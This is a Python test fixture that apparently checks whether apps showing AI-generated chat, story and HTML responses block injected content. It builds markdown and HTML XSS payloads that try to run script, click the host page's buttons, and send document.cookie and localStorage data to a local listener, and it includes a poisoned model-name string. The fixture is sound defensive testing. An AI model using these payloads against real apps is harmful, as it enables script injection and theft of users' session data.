"""Hostile content for the browser tests of both apps, and a loopback listener that records every
connection and request a page makes to it. Each payload points at the listener, so any fetch,
navigation, form post or beacon shows up there; the tests assert it saw nothing."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

PWNED = "pwned"  # what a payload sets document.title to, if it ever runs in the app's origin


@dataclass
class Listener:
    url: str
    connections: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


class _Handler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        listener: Listener = self.server.listener  # type: ignore[attr-defined]
        listener.connections.append(str(self.client_address))
        self.request.settimeout(2)
        try:
            data = self.request.recv(4096)
        except OSError:
            return
        if data:
            listener.requests.append(data.split(b"\r\n", 1)[0].decode("latin-1"))
            self.request.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n")


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener on a free loopback port for the duration of the block."""

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = True

    server = Server(("127.0.0.1", 0), _Handler)
    port = server.server_address[1]
    server.listener = Listener(url=f"http://127.0.0.1:{port}")  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.listener  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


def markdown_payload(url: str) -> str:
    """A chat or story response that tries every markdown and raw-HTML way to fetch or run."""
    return f"""Here is my answer, with a picture: ![beacon]({url}/md-image.png)

[Click for more]({url}/md-link) and [js](javascript:document.title='{PWNED}') <{url}/autolink>

<script>document.title = '{PWNED}'; fetch('{url}/script')</script>
<img src="{url}/img.png" onerror="document.title='{PWNED}'; fetch('{url}/onerror')">
<svg onload="document.title='{PWNED}'"><image href="{url}/svg-image.png"/></svg>
<style>@import url("{url}/import.css"); body {{ background: url("{url}/css-url.png") }}</style>
<link rel="stylesheet" href="{url}/link.css"><link rel="prefetch" href="{url}/prefetch">
<meta http-equiv="refresh" content="0;url={url}/meta-refresh">
<form id="f" action="{url}/form" method="post"><input name="a" value="b"></form>
<script>document.getElementById('f').submit()</script>
<iframe src="{url}/iframe"></iframe> <object data="{url}/object"></object>
<video poster="{url}/poster.png" src="{url}/video.mp4"></video>

$\\href{{{url}/latex}}{{latex link}}$ :red[colour] :material/home: ![ref][r]

[r]: {url}/reference-image.png

And the rest of the answer, which is fine."""


def html_page(url: str) -> str:
    """A visual-design response: a web page that tries to run, fetch, navigate and reach into the
    app that shows it (set the app's title, click its buttons, read its storage)."""
    return f"""Here is the page.

```html
<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="1;url={url}/page-meta-refresh">
<base href="{url}/base/">
<link rel="stylesheet" href="{url}/page-link.css">
<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}">
<link rel="icon" href="{url}/favicon.ico">
<style>
  @import url("{url}/page-import.css");
  @font-face {{ font-family: Remote; src: url("{url}/font.woff2"); }}
  body {{ font-family: Remote, sans-serif; background-image: url("{url}/bg.png"); }}
  h1 {{ color: #1a1a2e; }}
</style>
</head>
<body background="{url}/body-bg.png">
<h1>Simple pricing</h1><p>Three plans, no surprises.</p>
<img src="{url}/page-img.png" srcset="{url}/srcset.png 2x" onerror="fetch('{url}/page-onerror')">
<svg onload="fetch('{url}/page-svg')"></svg>
<input type="image" src="{url}/input-image.png">
<audio src="{url}/audio.mp3" autoplay></audio>
<embed src="{url}/embed"><object data="{url}/page-object"></object>
<iframe src="{url}/page-iframe"></iframe>
<a id="go" href="{url}/page-link" ping="{url}/ping">Start</a>
<form id="pf" action="{url}/page-form" method="post"><input name="x" value="y"></form>
<script>
  fetch('{url}/page-fetch');
  new Image().src = '{url}/page-beacon.png';
  navigator.sendBeacon && navigator.sendBeacon('{url}/send-beacon');
  document.getElementById('pf').submit();
  try {{ parent.document.title = '{PWNED}'; }} catch (e) {{}}
  try {{ top.document.querySelectorAll('button').forEach((b) => b.click()); }} catch (e) {{}}
  try {{ fetch('{url}/storage?' + parent.localStorage.length + document.cookie); }} catch (e) {{}}
  setTimeout(() => {{ location.href = '{url}/page-location'; }}, 500);
  setTimeout(() => {{ top.location = '{url}/top-location'; }}, 700);
  window.open('{url}/popup');
</script>
</body></html>
```

It uses one accent colour."""


def name_payload(url: str) -> str:
    """A model or judge name from a bundle that tries to render as markdown or HTML."""
    return (
        f"evil/model ![x]({url}/name-image.png) [verified by HF]({url}/verified) "
        f"<img src={url}/name-img onerror=\"document.title='{PWNED}'\"> **bold** :red[red]"
    )
